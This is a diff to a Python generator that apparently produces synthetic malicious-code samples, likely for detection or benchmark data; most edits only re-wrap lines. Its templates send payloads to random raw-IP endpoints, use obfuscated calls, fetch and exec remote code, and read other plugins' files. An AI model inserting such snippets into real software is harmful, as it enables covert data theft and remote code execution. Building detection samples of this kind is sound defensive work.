@@ -46,7 +46,9 @@ def _call_back(copy: Copy, chance: Random, spot: Spot, path: str, call: str) -> 
             f"{name}(self)",
         ),
         "class": (
-            f"class Helper{name.title().replace('_', '')}:\n    def __init__(self, owner):\n        self._session = owner.session\n\n    def run(self):\n        return self._session.{path}.{call}\n",
+            f"class Helper{name.title().replace('_', '')}:\n    def __init__(self, owner)"
+            f":\n        self._session = owner.session\n\n    def run(self):\n        return "
+            f"self._session.{path}.{call}\n",
             f"Helper{name.title().replace('_', '')}(self).run()",
         ),
         "thread": ("import threading as _t\n" + helper, f"_t.Thread(target={name}, args=(self.session,)).start()"),
@@ -85,7 +87,8 @@ def _send(chance: Random, url: str, payload: str, name: str) -> tuple[str, str, 
         ),
         "urllib": (
             "import urllib.request, json as _json",
-            f"_q = urllib.request.Request({url}, data=_json.dumps(str({payload})).encode(), method='POST')\nurllib.request.urlopen(_q, timeout=5)",
+            f"_q = urllib.request.Request({url}, data=_json.dumps(str({payload})).encode()"
+            f", method='POST')\nurllib.request.urlopen(_q, timeout=5)",
         ),
         "urlopen query": (
             "from urllib import request as _req, parse as _parse",
@@ -102,18 +105,26 @@ def _send(chance: Random, url: str, payload: str, name: str) -> tuple[str, str, 
         ),
         "aiohttp": (
             "import aiohttp, asyncio",
-            f"async def _ship():\n    async with aiohttp.ClientSession() as s:\n        async with s.post({url}, json={{'p': str({payload})}}) as r:\n            return r.status\nasyncio.run(_ship())",
+            f"async def _ship():\n    async with aiohttp.ClientSession() as s:\n        async "
+            f"with s.post({url}, json={{'p': str({payload})}}) as r:\n            return "
+            f"r.status\nasyncio.run(_ship())",
         ),
         "helper": (
-            f"import requests\n\n\ndef {name}(where, what):\n    return requests.request('PUT', where, json={{'w': str(what)}}, timeout=3)\n",
+            f"import requests\n\n\ndef {name}(where, what):\n    return requests.request('PUT', "
+            f"where, json={{'w': str(what)}}, timeout=3)\n",
             f"{name}({url}, {payload})",
         ),
         "nested helpers": (
-            f"import httpx\n\n\ndef _{name}_pack(what):\n    return {{'blob': repr(what)}}\n\n\ndef {name}(where, what):\n    body = _{name}_pack(what)\n    try:\n        httpx.post(where, json=body)\n    except Exception:\n        return None\n",
+            f"import httpx\n\n\ndef _{name}_pack(what):\n    return {{'blob': repr(what)}}\n\n\ndef "
+            f"{name}(where, what):\n    body = _{name}_pack(what)\n    try:\n        httpx.post(where, "
+            f"json=body)\n    except Exception:\n        return None\n",
             f"{name}({url}, {payload})",
         ),
         "class": (
-            f"import requests\n\n\nclass {name.title().replace('_', '')}:\n    def __init__(self, target):\n        self.target = target\n        self.http = requests.Session()\n\n    def emit(self, event):\n        return self.http.post(self.target, json=event, timeout=4)\n",
+            f"import requests\n\n\nclass {name.title().replace('_', '')}:\n    def __init__(self, "
+            f"target):\n        self.target = target\n        self.http = requests.Session()"
+            f"\n\n    def emit(self, event):\n        return self.http.post(self.target, "
+            f"json=event, timeout=4)\n",
             f"{name.title().replace('_', '')}({url}).emit({{'e': str({payload})}})",
         ),
         "partial": (
@@ -123,7 +134,8 @@ def _send(chance: Random, url: str, payload: str, name: str) -> tuple[str, str, 
         "getattr": ("import requests", f"getattr(requests, 'po' + 'st')({url}, json={{'x': str({payload})}})"),
         "thread": (
             "import threading, requests",
-            f"threading.Thread(target=requests.post, args=({url},), kwargs={{'json': {{'x': str({payload})}}}}).start()",
+            f"threading.Thread(target=requests.post, args=({url},), kwargs={{'json': {{'x': "
+            f"str({payload})}}}}).start()",
         ),
         "thread pool": (
             "import concurrent.futures as _cf\nimport requests",
@@ -136,6 +148,10 @@ def _send(chance: Random, url: str, payload: str, name: str) -> tuple[str, str, 
     }
     style = chance.choice(sorted(styles))
     return style, *styles[style]
+
+
+def _number(chance: Random) -> str:
+    return f"{chance.choice([45, 91, 185, 194])}.{chance.randrange(4, 250)}.{chance.randrange(256)}.{chance.randrange(1, 255)}"
 
 
 def _address(copy: Copy, chance: Random, spot: Spot, name: str) -> tuple[str, str, str]:
@@ -152,9 +168,7 @@ def _address(copy: Copy, chance: Random, spot: Spot, name: str) -> tuple[str, st
         ),
         "number": (
             "",
-            repr(
-                f"http://{chance.choice([45, 91, 185, 194])}.{chance.randrange(4, 250)}.{chance.randrange(256)}.{chance.randrange(1, 255)}:8080/x"
-            ),
+            repr(f"http://{_number(chance)}:8080/x"),
         ),
         "environment": ("import os", f"os.environ.get({name.upper()!r}, {url!r})"),
         "hidden": hidden(chance, url),
@@ -241,7 +255,7 @@ def hidden_code(copy: Copy, chance: Random) -> str | None:
             f"{name}({expression})",
         ),
         "fetched": ("import requests", f"exec(requests.get({host_url(chance)!r}, timeout=3).text)"),
-        "file": ("", f"exec(open(__file__.replace('.py', '.dat')).read())"),
+        "file": ("", "exec(open(__file__.replace('.py', '.dat')).read())"),
         "lambda": (above, f"(lambda run, what: run(what))(exec, {expression})"),
         "decorator": (
             f"{above}\n\n\ndef {name}(function):\n    exec({expression})\n    return function\n",
@@ -293,7 +307,8 @@ def files_of_others(copy: Copy, chance: Random) -> str | None:
         "dots": ("import os", f"for _d in os.listdir({'/'.join(['..'] * chance.choice([1, 2]))!r}):\n    _x = _d"),
         "join dots": (
             "import os",
-            f"_base = os.path.dirname(os.path.abspath(__file__))\n_x = open(os.path.join(_base, {'/'.join(['..'] * (depth + 1))!r}, 'other-plugin', 'main.py')).read()",
+            f"_base = os.path.dirname(os.path.abspath(__file__))\n_x = open(os.path.join(_base, "
+            f"{'/'.join(['..'] * (depth + 1))!r}, 'other-plugin', 'main.py')).read()",
         ),
         "walk": ("import os", "for _r, _d, _n in os.walk('/'):\n    _x = _n\n    break"),
         "cwd": ("import os, pathlib", "_x = list(pathlib.Path(os.getcwd()).parent.iterdir())"),
